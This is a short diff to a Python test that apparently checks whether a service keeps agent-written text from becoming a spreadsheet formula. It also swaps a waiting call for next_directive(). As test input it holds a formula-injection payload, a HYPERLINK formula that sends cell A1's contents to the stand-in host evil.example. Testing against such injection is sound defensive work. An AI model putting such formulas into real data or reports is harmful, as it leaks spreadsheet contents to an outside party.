@@ -40,8 +40,7 @@ def test_what_an_agent_wrote_is_no_formula_in_the_table(service: Service, agent:
     agent.send()
     body = {"objective": {"metric": "qps", "goal": "maximize"}, "mode": "lab", "approval": "automatic"}
     session = service.take("POST", f"/v1/databases/{database}/sessions", body)["id"]
-    directive = agent.directive(wait=5)
-    assert directive is not None
+    directive = agent.next_directive()
     attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     outcome = agent.outcome(directive, "applied")
     agent.send(agent.report(outcomes=[outcome], measures=directive["id"], failure=attack))
